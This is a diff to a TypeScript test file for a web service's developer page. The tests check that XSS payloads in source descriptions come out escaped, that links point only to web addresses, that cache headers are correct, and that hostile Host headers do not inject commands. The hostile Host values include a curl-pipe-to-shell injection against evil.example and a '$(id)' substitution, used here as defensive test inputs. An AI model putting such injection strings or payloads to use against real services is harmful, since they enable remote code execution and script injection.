@@ -31,19 +31,19 @@ afterAll(() => service.close());
 const page = async (path: string, host = 'garden.example'): Promise<string> =>
   rawExchange(service.port, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
 
-describe('descriptions of sources on the landing page', () => {
+describe('descriptions of sources on the page for developers', () => {
   it('are text, never markup', async () => {
-    const text = await page('/');
-    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;0');
-    expect(text).toContain('&quot;&#39;&gt;&lt;img src=x');
+    const text = await page('/developers');
+    expect(text).toContain('&lt;script>alert(1)&lt;/script>0');
+    expect(text).toContain("&quot;'>&lt;img src=x");
     expect(text).not.toContain(SCRIPT);
     expect(text).not.toContain('<img');
   });
 
   it('link only to web addresses', async () => {
-    const targets = [...(await page('/')).matchAll(/href="([^"]*)"/g)].map(([, target]) => target);
+    const targets = [...(await page('/developers')).matchAll(/href="([^"]*)"/g)].map(([, target]) => target);
     expect(targets.length).toBeGreaterThan(5);
-    expect(targets.filter((target) => !/^(https?:\/\/|\/|data:,$)/.test(target ?? ''))).toEqual([]);
+    expect(targets.filter((target) => !/^(https?:\/\/|\/|#content$)/.test(target ?? ''))).toEqual([]);
   });
 });
 
@@ -51,14 +51,14 @@ describe('the host that a caller sends', () => {
   it.each(['garden.example', 'garden.example:8443', '192.0.2.7:80', '[2001:db8::1]:3000'])(
     '%s appears in the commands',
     async (host) => {
-      expect(await page('/', host)).toContain(`http://${host}/api/v1/species`);
+      expect(await page('/developers', host)).toContain(`http://${host}/api/v1/species`);
     },
   );
 
   it.each([`x';curl evil.example|sh;'`, BREAKING, 'a b', 'evil.example/$(id)', 'user@evil.example', ''])(
     '%s brings nothing into them that a terminal would run',
     async (host) => {
-      const text = await page('/', host);
+      const text = await page('/developers', host);
       const commands = [...text.matchAll(/data-curl="([^"]*)"/g)].map(([, command]) => command ?? '');
       expect(commands.length).toBeGreaterThan(3);
       expect(
@@ -69,13 +69,14 @@ describe('the host that a caller sends', () => {
   );
 });
 
-describe('the landing page in caches', () => {
-  it('is stored by browsers only, as its commands contain the host of the caller', async () => {
+describe('C15.7 pages in caches', () => {
+  it('are stored by browsers only, as they contain the host of the caller; their files by all, for ever', async () => {
     const { headers } = await fetch(service.url);
     expect(headers.get('cache-control')).toBe('private, max-age=60');
-    expect((await fetch(`${service.url}/landing.css`)).headers.get('cache-control')).toBe(
-      'public, max-age=60',
-    );
+    for (const [file] of (await page('/')).matchAll(/\/files\/[\w.-]+/g))
+      expect((await fetch(service.url + file)).headers.get('cache-control')).toBe(
+        'public, max-age=31536000, immutable',
+      );
   });
 });
 
